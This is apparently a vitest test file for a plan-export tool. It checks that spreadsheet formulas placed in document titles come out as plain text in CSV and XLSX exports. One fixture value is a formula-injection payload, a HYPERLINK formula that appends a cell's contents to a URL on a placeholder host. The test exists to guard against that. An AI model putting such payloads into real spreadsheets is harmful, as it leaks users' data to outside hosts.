import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, expect, test } from 'vitest'
import { loadPlanFolder } from '../../../src/library/plan-folder/load-plan.ts'
import { allCitationsToCsv, citationsToCsv } from '../../../src/plan-to-exports/csv/citations-to-csv.ts'
import { tasksToCsv } from '../../../src/plan-to-exports/csv/tasks-to-csv.ts'
import { documentToXlsx } from '../../../src/plan-to-exports/ledger/document-to-xlsx.ts'
import { toDocument } from '../../../src/plan-to-exports/to-document.ts'
import { loadRegistry } from '../../../src/registry/load-registry.ts'
import { readWorkbook } from '../../support/read-back/workbook.ts'

const content = mkdtempSync(join(tmpdir(), 'gangmu-formulas-'))
afterAll(() => rmSync(content, { recursive: true, force: true }))

/** What a spreadsheet would calculate, or send somewhere, as titles of documents in a publisher's own list. */
const FORMULAS = ['=1+1', '@SUM(1)', '+甲', '-乙', '＝1+1', '=HYPERLINK("https://jia.example?"&A1)']

mkdirSync(join(content, 'registry'))
const cell = (text: string) => `"${text.replaceAll('"', '""')}"`
writeFileSync(
  join(content, 'registry/自己的.csv'),
  `标题,制定机关,说明,出处\n${FORMULAS.map((each) => [each, each, each, each].map(cell).join(',')).join('\n')}\n`,
)
mkdirSync(join(content, 'plans/jia-2021'), { recursive: true })
writeFileSync(
  join(content, 'plans/jia-2021/source.txt'),
  `甲市2021年工作要点\n${FORMULAS.map((each, at) => `（${'一二三四五六'[at]}）${each}。落实《${each}》。（${each}局负责）`).join('\n')}\n`,
)
writeFileSync(
  join(content, 'plans/jia-2021/plan.yaml'),
  'id: jia-2021\nprovenance: { received: null, from: 测试, officialUrl: null }\n',
)

test('formulas in a list of one’s own are words in every table', async () => {
  const { registry, files } = loadRegistry(content)
  expect(files.flatMap(({ messages }) => messages.map(String))).toEqual([])
  const loaded = loadPlanFolder(join(content, 'plans/jia-2021'), registry)
  if (!loaded.ok) throw new Error(loaded.files.join('\n'))
  const { plan } = loaded.result
  const document = toDocument(loaded.result)
  const tables = [citationsToCsv(plan), allCitationsToCsv([plan]), tasksToCsv(document)]
  const cells = tables.flatMap((csv) => (parse(csv, { bom: true }) as string[][]).flat())
  // They are there, each behind the mark that makes words of it.
  for (const each of FORMULAS) expect(cells.filter((text) => text === `'${each}`).length).toBeGreaterThan(0)
  expect(cells.filter((text) => /^[=+\-@＝＋－＠]/u.test(text))).toEqual([])

  const file = await documentToXlsx(document, { site: null, base: '/' })
  const { sheets } = readWorkbook(file?.bytes ?? new Uint8Array())
  const words = sheets.flatMap(({ rows }) => rows.flat())
  for (const each of FORMULAS) expect(words.some((word) => String(word).includes(each))).toBe(true)
  // The element of a formula (ISO/IEC 29500-1 §18.3.1.40).
  expect(sheets.filter(({ xml }) => /<f[ >/]/u.test(xml))).toEqual([])
})
